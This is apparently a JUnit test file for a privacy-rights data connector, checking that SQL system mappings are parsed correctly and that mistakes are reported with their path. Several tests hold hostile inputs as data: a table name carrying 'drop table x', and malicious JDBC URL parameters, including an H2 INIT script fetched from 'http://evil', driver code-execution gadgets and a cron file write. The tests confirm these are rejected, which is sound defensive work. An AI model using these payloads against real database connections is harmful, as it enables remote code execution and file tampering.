package org.rightsflow.connector.sql;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.tuple;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.rightsflow.connector.LegalBasis;
import org.rightsflow.connector.ConnectorAction;
import org.rightsflow.connector.Secrets;
import org.rightsflow.connector.SystemDefinition;
import org.rightsflow.connector.SystemDefinitions;

/** Reading a sql system's mapping: what it means, and errors that name the path of the mistake. */
class SqlMappingTest {

    private static final String CONNECTION = """
            key: shop-db
            name: Shop
            ownerGroup: shop-team
            kind: sql
            requestTypes: [ACCESS, DELETION]
            connection:
              url: jdbc:h2:mem:shop
            """;

    private static final String MINIMAL = """
            dataset:
              table: customers
              key: id
              match: {email: email}
              access: [id, email, name]
              erasure: delete
              children:
                - table: orders
                  key: id
                  foreignKey: customer_id
                  access: [total]
                  erasure: delete
            """;

    private final SqlConnector connector = new SqlConnector(new Secrets(name -> null), ErasureHashKey.of(""));

    @Test
    void theDocumentedExampleIsAValidMapping() throws IOException {
        String doc = Files.readString(Path.of("docs/connected-systems.md"));
        Matcher example = Pattern.compile("<!-- sql-example -->\\s*```yaml\\n(.*?)```", Pattern.DOTALL).matcher(doc);
        assertThat(example.find()).as("docs/connected-systems.md marks its sql example with <!-- sql-example -->").isTrue();

        SystemDefinition system = SystemDefinitions.parseDocument("connected-systems.md", example.group(1)).get(0);
        SqlMapping mapping = MappingReader.read(system);

        assertThat(mapping.tables()).extracting(MappedTable::name).containsExactly("customers", "addresses", "orders",
                "order_lines", "support_tickets", "ticket_messages", "newsletter_subscriptions");
        assertThat(mapping.usesHash()).isTrue();
    }

    @Test
    void tablesAreVisitedParentsFirstAndDeletedChildrenFirst() {
        SqlMapping mapping = read(SqlConnectorContract.SHOP_DATASET);

        assertThat(mapping.tables()).extracting(MappedTable::name).containsExactly("customers", "addresses", "orders",
                "order_lines", "tickets", "ticket_messages", "newsletter_subscriptions");
        assertThat(mapping.childrenFirst()).extracting(MappedTable::name).containsExactly("newsletter_subscriptions",
                "ticket_messages", "tickets", "order_lines", "orders", "addresses", "customers");
        MappedTable lines = mapping.tables().get(3);
        assertThat(lines.parent().name()).isEqualTo("orders");
        assertThat(lines.foreignKey()).isEqualTo("order_id");
        assertThat(lines.parentKey()).isEqualTo("id");
        assertThat(lines.sqlName()).isEqualTo("order_lines");
    }

    @Test
    void aTableLevelMaskingStrategyCoversTheAccessColumnsButNeverTheLinks() {
        SqlMapping mapping = read("""
                dataset:
                  table: customers
                  key: id
                  match: {email: email}
                  access: [id, email, name, phone]
                  erasure:
                    strategy: redact
                    value: "-"
                    columns:
                      email: hash
                  children:
                    - table: orders
                      key: id
                      foreignKey: customer_id
                      access: [id, customer_id, total, note]
                      erasure:
                        strategy: retain
                        basis: CCPA_1798_105_D
                        note: complete the transaction (open order)
                        columns:
                          note: set-null
                """);

        assertThat(mapping.identityTable().erasure().columns())
                .extracting(ColumnRule::column, ColumnRule::strategy, ColumnRule::redactValue)
                .containsExactly(tuple("name", Strategy.REDACT, "-"), tuple("phone", Strategy.REDACT, "-"),
                        tuple("email", Strategy.HASH, null));
        assertThat(mapping.tables().get(1).erasure().columns())
                .extracting(ColumnRule::column, ColumnRule::strategy, ColumnRule::basis)
                .containsExactly(tuple("total", Strategy.RETAIN, LegalBasis.CCPA_1798_105_D),
                        tuple("note", Strategy.SET_NULL, null));
    }

    @Test
    void aSchemaQualifiesTablesThatDoNotNameTheirOwn() {
        String yaml = CONNECTION.replace("url: jdbc:h2:mem:shop", "url: jdbc:h2:mem:shop\n  schema: shop")
                + MINIMAL.replace("table: orders", "table: sales.orders");
        SqlMapping mapping = MappingReader.read(SystemDefinitions.parseSingle("shop.yml", yaml));

        assertThat(mapping.tables()).extracting(MappedTable::sqlName).containsExactly("shop.customers", "sales.orders");
    }

    @ParameterizedTest(name = "{1}")
    @CsvSource(delimiter = '|', textBlock = """
            table: customers|table: "customers; drop table x"|dataset.table: 'customers; drop table x' is not a plain SQL table name
            access: [id, email, name]|access: [id, email, "name--"]|dataset.access[2]: 'name--' is not a plain SQL column name
            access: [total]|access: [total, total]|dataset.children[0].access: total is listed twice
            foreignKey: customer_id|foreign_key: customer_id|dataset.children[0].foreign_key: unknown key 'foreign_key'
            foreignKey: customer_id|key2: x|dataset.children[0].key2: unknown key
            key: id\\n  match|match|dataset.key: required
            match: {email: email}|match: {}|dataset.match: name the column holding the subject's email
            match: {email: email}|match: {mail: email}|dataset.match.mail: unknown key 'mail'
            erasure: delete\\n  children|erasure: scramble\\n  children|dataset.erasure: 'scramble' is not one of delete, retain, set-null, redact, hash, year-only, zero
            erasure: delete\\n  children|erasure: retain\\n  children|dataset.erasure: retain needs a legal basis and a note
            erasure: delete\\n  children|erasure: year-only\\n  children|dataset.erasure: year-only fits one column's type
            erasure: delete\\n  children|erasure: {strategy: zero}\\n  children|dataset.erasure.strategy: zero fits one column's type
            erasure: delete\\n  children|erasure: {strategy: retain, note: kept}\\n  children|dataset.erasure.basis: required for retain
            erasure: delete\\n  children|erasure: {strategy: retain, basis: GDPR_17, note: kept}\\n  children|dataset.erasure.basis: 'GDPR_17' is not one of
            erasure: delete\\n  children|erasure: {strategy: delete, columns: {name: hash}}\\n  children|dataset.erasure.columns: deleted rows have no columns left
            erasure: delete\\n  children|erasure: {strategy: hash, note: x}\\n  children|dataset.erasure.note: only the retain strategy takes a note
            erasure: delete\\n  children|erasure: {strategy: retain, basis: GDPR_ART_17_3_B, note: {xx: kept}}\\n  children|dataset.erasure.note.xx: is not one of the languages
            erasure: delete\\n  children|erasure: {strategy: retain, basis: GDPR_ART_17_3_B, note: {en: ''}}\\n  children|dataset.erasure.note.en: expected a text
            erasure: delete\\n  children|erasure: {columns: {name: delete}}\\n  children|dataset.erasure.columns.name: delete applies to whole rows
            erasure: delete\\n  children|erasure: {columns: {name: {strategy: retain, basis: GDPR_ART_17_3_E}}}\\n  children|dataset.erasure.columns.name.note: required but missing
            erasure: delete\\n  children|erasure: {columns: {id: set-null}}\\n  children|dataset.erasure.columns.id: id links rows together
            erasure: delete\\n  children|erasure: {columns: {"e-mail": hash}}\\n  children|dataset.erasure.columns.e-mail: 'e-mail' is not a plain SQL column name
            erasure: delete\\n  children|erasure: {columns: {name: {strategy: hash, value: x}}}\\n  children|dataset.erasure.columns.name.value: only the redact strategy takes a value
            access: [total]\\n      erasure: delete|access: [total]\\n      erasure: {strategy: retain, basis: GDPR_ART_17_3_B, note: tax}|dataset.children[0].erasure: the rows of customers are deleted, so the rows of orders that refer to them must be deleted too
            access: [total]\\n      erasure: delete|access: [total]\\n      erasure: {columns: {customer_id: set-null}}|dataset.children[0].erasure.columns.customer_id: customer_id links rows together
            foreignKey: customer_id|parentKey: id|dataset.children[0].foreignKey: required
            - table: orders\\n      key: id|- table: orders\\n      match: {email: email}|dataset.children[0].match: only the identity table
            key: id\\n  match|key: [id, region]\\n  match|dataset.key: the identity table needs a single-column key
            - table: orders|- table: customers|dataset: table customers is mapped twice
            access: [total]\\n      erasure: delete|access: [total]\\n      provided: [total, note]\\n      erasure: delete|dataset.children[0].provided: note is not one of the access columns of orders
            access: [total]\\n      erasure: delete|access: [total]\\n      provided: [total, total]\\n      erasure: delete|dataset.children[0].provided: total is listed twice
            access: [id, email, name]|access: [id, email, name]\\n  since: created_at|dataset.since: the identity table's rows are always returned
            access: [total]\\n      erasure: delete|access: [total]\\n      since: "placed at"\\n      erasure: delete|dataset.children[0].since: 'placed at' is not a plain SQL column name
            access: [total]\\n      erasure: delete|access: [total]\\n      since: [placed_at]\\n      erasure: delete|dataset.children[0].since: expected non-empty text
            foreignKey: customer_id|foreignKey: 42|dataset.children[0].foreignKey: expected non-empty text
            access: [total]\\n      erasure: delete|access: [total]\\n      erasure: {columns: {total: {strategy: retain, basis: GDPR_17, note: tax}}}|dataset.children[0].erasure.columns.total.basis: 'GDPR_17' is not one of
            access: [total]\\n      erasure: delete|access: [total]\\n      erasure: {columns: {total: {strategy: hash, colour: red}}}|dataset.children[0].erasure.columns.total.colour: unknown key 'colour'; allowed keys here: basis, note, strategy, value
            """)
    void mistakesAreReportedWithTheirPath(String replace, String with, String message) {
        String dataset = MINIMAL.replace(replace.replace("\\n", "\n"), with.replace("\\n", "\n"));
        assertThat(dataset).as("the test replaces something").isNotEqualTo(MINIMAL);

        assertThatThrownBy(() -> read(dataset)).isInstanceOf(IllegalArgumentException.class)
                .hasMessageStartingWith("shop.yml: ").hasMessageContaining(message);
    }

    @Test
    void sinceAndProvidedAreOptionalAndProvidedDefaultsToTheAccessColumns() {
        SqlMapping mapping = read("""
                dataset:
                  table: customers
                  key: id
                  match: {email: email}
                  access: [id, email, name, score]
                  provided: [email, name]
                  erasure: delete
                  children:
                    - table: orders
                      key: id
                      foreignKey: customer_id
                      since: placed_at
                      access: [id, total]
                      erasure: delete
                    - table: page_views
                      foreignKey: customer_id
                      since: viewed_at
                      access: [url, viewed_at]
                      provided: []
                      erasure: delete
                """);

        MappedTable customers = mapping.tables().get(0);
        MappedTable orders = mapping.tables().get(1);
        MappedTable views = mapping.tables().get(2);
        assertThat(customers.since()).isNull();
        assertThat(customers.portable()).containsExactly("email", "name");
        assertThat(orders.since()).isEqualTo("placed_at");
        assertThat(orders.portable()).as("no provided: all access columns").containsExactly("id", "total");
        assertThat(views.portable()).as("provided: [] — nothing came from the subject").isEmpty();
        // The connection test looks for the since column; the statements of erasure never read it.
        assertThat(orders.mappedColumns()).contains("placed_at");
        assertThat(orders.readColumns()).doesNotContain("placed_at");
        assertThat(read(MINIMAL).tables()).allSatisfy(table -> {
            assertThat(table.since()).isNull();
            assertThat(table.portable()).isEqualTo(table.access());
        });
    }

    @Test
    void maskedRowsMustBeFoundAgainByTheirKey() {
        String dataset = MINIMAL.replace("erasure: delete\n  children", "erasure: {columns: {name: hash}}\n  children")
                .replace("      key: id\n      foreignKey", "      foreignKey")
                .replace("access: [total]\n      erasure: delete", "access: [total]\n      erasure: {columns: {total: set-null}}");

        assertThatThrownBy(() -> read(dataset)).hasMessageContaining("dataset.children[0].erasure: the rows of orders are kept "
                + "and masked, which needs its key");
    }

    @Test
    void aChildOfATableWithoutKeyNamesTheParentColumn() {
        String dataset = """
                dataset:
                  table: customers
                  key: id
                  match: {email: email}
                  access: [email]
                  erasure: delete
                  children:
                    - table: carts
                      foreignKey: customer_id
                      access: [token]
                      erasure: delete
                      children:
                        - table: cart_items
                          foreignKey: cart_token
                          access: [sku]
                          erasure: delete
                """;

        assertThatThrownBy(() -> read(dataset)).hasMessageContaining("dataset.children[0].children[0].parentKey: "
                + "required, because carts declares no key");
        SqlMapping mapping = read(dataset.replace("foreignKey: cart_token", "foreignKey: cart_token\n"
                + "          parentKey: token"));
        assertThat(mapping.tables().get(2).parentKey()).isEqualTo("token");
    }

    @Test
    void connectionMistakesAreReportedWithTheirPath() {
        assertThatThrownBy(() -> MappingReader.read(SystemDefinitions.parseSingle("shop.yml",
                CONNECTION.replace("url: jdbc:h2:mem:shop", "url: jdbc:h2:mem:shop\n  password: hunter2") + MINIMAL)))
                .hasMessageContaining("shop.yml: connection.password: a secret must be a reference")
                .hasMessageNotContaining("hunter2");
        assertThatThrownBy(() -> MappingReader.read(SystemDefinitions.parseSingle("shop.yml",
                CONNECTION.replace("url: jdbc:h2:mem:shop", "url: postgres://db/shop") + MINIMAL)))
                .hasMessageContaining("shop.yml: connection.url: expected a JDBC URL");
        for (String url : java.util.List.of("jdbc:h2:mem:shop;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
                "jdbc:postgresql://db/shop?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
                "jdbc:postgresql://db/shop?loggerFile=/etc/cron.d/x", "jdbc:mariadb://db/shop?allowLoadLocalInfile=true",
                "jdbc:mysql://db/shop?autoDeserialize=true&user=x")) {
            assertThatThrownBy(() -> MappingReader.read(SystemDefinitions.parseSingle("shop.yml",
                    CONNECTION.replace("url: jdbc:h2:mem:shop", "url: \"" + url + "\"") + MINIMAL)))
                    .as(url).hasMessageContaining("shop.yml: connection.url: the parameter")
                    .hasMessageContaining("makes the driver run code or read files");
        }
        // Ordinary parameters stay allowed.
        assertThat(MappingReader.read(SystemDefinitions.parseSingle("shop.yml", CONNECTION.replace(
                "url: jdbc:h2:mem:shop", "url: \"jdbc:postgresql://db/shop?sslmode=require&connectTimeout=5\"")
                + MINIMAL)).connection().url()).endsWith("connectTimeout=5");
        assertThatThrownBy(() -> MappingReader.read(SystemDefinitions.parseSingle("shop.yml",
                CONNECTION.replace("url: jdbc:h2:mem:shop", "url: jdbc:h2:mem:shop\n  schema: \"shop;\"") + MINIMAL)))
                .hasMessageContaining("shop.yml: connection.schema: 'shop;' is not a plain SQL name");
        assertThatThrownBy(() -> MappingReader.read(SystemDefinitions.parseSingle("shop.yml",
                CONNECTION.replace("url: jdbc:h2:mem:shop", "url: jdbc:h2:mem:shop\n  pool: 5") + MINIMAL)))
                .hasMessageContaining("shop.yml: connection.pool: unknown key 'pool'");
        assertThatThrownBy(() -> MappingReader.read(SystemDefinitions.parseSingle("shop.yml", CONNECTION)))
                .hasMessageContaining("the dataset is missing");
    }

    @Test
    void aSystemTakingPartInOptOutsAndCorrectionsDeclaresWhatTheyChange() {
        String optOuts = CONNECTION.replace("[ACCESS, DELETION]", "[ACCESS, OPT_OUT]") + MINIMAL;
        assertThatThrownBy(() -> connector.validate(SystemDefinitions.parseSingle("shop.yml", optOuts)))
                .hasMessage("shop.yml: dataset: the system takes part in OPT_OUT requests, but no table declares "
                        + "optOut columns");
        String corrections = CONNECTION.replace("[ACCESS, DELETION]", "[CORRECTION]") + MINIMAL;
        assertThatThrownBy(() -> connector.validate(SystemDefinitions.parseSingle("shop.yml", corrections)))
                .hasMessageContaining("shop.yml: dataset: the system takes part in CORRECTION requests");

        connector.validate(SystemDefinitions.parseSingle("shop.yml", optOuts.replace("erasure: delete\n  children",
                "erasure: delete\n  optOut: {marketing: false, segment: null}\n  children")));
    }

    @Test
    void aSystemTakingPartInLimitsOfSensitiveDataDeclaresWhatTheyChange() {
        String limits = CONNECTION.replace("[ACCESS, DELETION]", "[ACCESS, OPT_OUT, LIMIT_SENSITIVE]") + MINIMAL
                .replace("erasure: delete\n  children", "erasure: delete\n  optOut: {marketing: false}\n  children");
        assertThatThrownBy(() -> connector.validate(SystemDefinitions.parseSingle("shop.yml", limits)))
                .hasMessage("shop.yml: dataset: the system takes part in LIMIT_SENSITIVE requests, but no table "
                        + "declares limitUse columns");

        // Declared on a child table is enough, as for optOut; the opt-out columns do not count for it.
        SystemDefinition declared = SystemDefinitions.parseSingle("shop.yml", limits.replace(
                "access: [total]\n", "access: [total]\n      limitUse: {sensitive_ok: false, profiling: null}\n"));
        connector.validate(declared);
        SqlMapping mapping = MappingReader.read(declared);
        assertThat(mapping.tables().get(1).limitUse()).containsEntry("sensitive_ok", false).containsEntry("profiling", null);
        assertThat(mapping.tables().get(0).limitUse()).isEmpty();
        assertThat(mapping.tables().get(1).mappedColumns()).contains("sensitive_ok", "profiling");
        assertThat(connector.supports(declared, ConnectorAction.LIMIT_USE)).isTrue();
        assertThat(connector.supports(SystemDefinitions.parseSingle("shop.yml", CONNECTION + MINIMAL),
                ConnectorAction.LIMIT_USE)).as("nothing declared: the owners do it by hand").isFalse();
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', textBlock = """
            limitUse: {id: true}|dataset.limitUse: id links rows together (key or foreign key) and cannot be set by a limit of sensitive data use
            limitUse: {sensitive: [a]}|dataset.limitUse.sensitive: expected the value the limit of sensitive data use writes
            limitUse: {}|dataset.limitUse: list the columns the limit of sensitive data use sets, column: value
            limitUse: {"sensitive use": true}|dataset.limitUse.sensitive use: 'sensitive use' is not a plain SQL column name
            """)
    void limitUseMistakesAreReportedWithTheirPath(String limitUse, String message) {
        String dataset = MINIMAL.replace("erasure: delete\n  children", "erasure: delete\n  " + limitUse + "\n  children");

        assertThatThrownBy(() -> read(dataset)).isInstanceOf(IllegalArgumentException.class)
                .hasMessageStartingWith("shop.yml: ").hasMessageContaining(message);
    }

    @Test
    void optOutAndCorrectionNeverTouchTheLinks() {
        assertThatThrownBy(() -> read(MINIMAL.replace("erasure: delete\n  children",
                "erasure: delete\n  correct: {customerId: id}\n  children")))
                .hasMessageContaining("dataset.correct: id links rows together");
        assertThatThrownBy(() -> read(MINIMAL.replace("erasure: delete\n  children",
                "erasure: delete\n  optOut: {email: [a]}\n  children")))
                .hasMessageContaining("dataset.optOut.email: expected the value the opt-out writes");
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', quoteCharacter = '\'', textBlock = """
            order_lines|true
            shop.order_lines|true
            _x1|true
            a.b.c|false
            1orders|false
            "orders "|false
            """)
    void tableNamesAreLettersDigitsAndUnderscoresWithAnOptionalSchema(String name, boolean plain) {
        String dataset = MINIMAL.replace("table: orders", "table: " + name);

        if (plain) {
            assertThat(read(dataset).tables().get(1).name()).isEqualTo(name.replace("\"", "").strip());
        } else {
            assertThatThrownBy(() -> read(dataset)).hasMessageContaining("dataset.children[0].table: ")
                    .hasMessageContaining("is not a plain SQL table name");
        }
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', textBlock = """
            customer_id|true
            _x1|true
            shop.customer_id|false
            émail|false
            1st|false
            """)
    void columnNamesAreLettersDigitsAndUnderscores(String name, boolean plain) {
        String dataset = MINIMAL.replace("foreignKey: customer_id", "foreignKey: " + name);

        if (plain) {
            assertThat(read(dataset).tables().get(1).foreignKey()).isEqualTo(name);
        } else {
            assertThatThrownBy(() -> read(dataset)).hasMessageContaining("dataset.children[0].foreignKey: '" + name
                    + "' is not a plain SQL column name");
        }
    }

    @Test
    void mistakesDeepInADocumentOfSystemsNameTheirWholePath() {
        String manual = """
                  - key: desk-%d
                    name: Desk
                    ownerGroup: support
                    kind: manual
                    requestTypes: [ACCESS]
                """;
        String shop = "  - " + (CONNECTION + MINIMAL).indent(4).substring(4);
        String document = "systems:\n" + manual.formatted(0) + manual.formatted(1) + shop;
        SystemDefinition third = SystemDefinitions.parseDocument("systems.yml", document).get(2);
        assertThat(MappingReader.read(third).tables()).hasSize(2);

        SystemDefinition noForeignKey = SystemDefinitions.parseDocument("systems.yml",
                document.replace("foreignKey: customer_id", "parentKey: id")).get(2);
        assertThatThrownBy(() -> MappingReader.read(noForeignKey))
                .hasMessageStartingWith("systems.yml: systems[2].dataset.children[0].foreignKey: required");
        SystemDefinition misspelt = SystemDefinitions.parseDocument("systems.yml",
                document.replace("foreignKey: customer_id", "foreignKey: customer_id\n          froeignKey: x")).get(2);
        assertThatThrownBy(() -> MappingReader.read(misspelt))
                .hasMessageStartingWith("systems.yml: systems[2].dataset.children[0].froeignKey: unknown key "
                        + "'froeignKey'; allowed keys here: access, children, correct, erasure, foreignKey, key, "
                        + "limitUse, match, optOut, parentKey, provided, since, table");
        SystemDefinition emptyEnv = SystemDefinitions.parseDocument("systems.yml",
                document.replace("url: jdbc:h2:mem:shop", "url: jdbc:h2:mem:shop\n      hashKey: {env: \"\"}")).get(2);
        assertThatThrownBy(() -> MappingReader.read(emptyEnv))
                .hasMessage("systems.yml: systems[2].connection.hashKey.env: expected non-empty text");
        SystemDefinition noUrl = SystemDefinitions.parseDocument("systems.yml",
                document.replace("url: jdbc:h2:mem:shop", "username: shop")).get(2);
        assertThatThrownBy(() -> MappingReader.read(noUrl))
                .hasMessage("systems.yml: systems[2].connection.url: required but missing");
    }

    @Test
    void aNameIsAtMost63Characters() {
        assertThat(read(MINIMAL.replace("access: [total]", "access: [" + "a".repeat(63) + "]")).tables().get(1)
                .access()).containsExactly("a".repeat(63));
        assertThatThrownBy(() -> read(MINIMAL.replace("access: [total]", "access: [" + "a".repeat(64) + "]")))
                .hasMessageContaining("dataset.children[0].access[0]: '" + "a".repeat(64) + "' is not a plain SQL "
                        + "column name");
    }

    private static SqlMapping read(String dataset) {
        return MappingReader.read(SystemDefinitions.parseSingle("shop.yml", CONNECTION + dataset));
    }
}
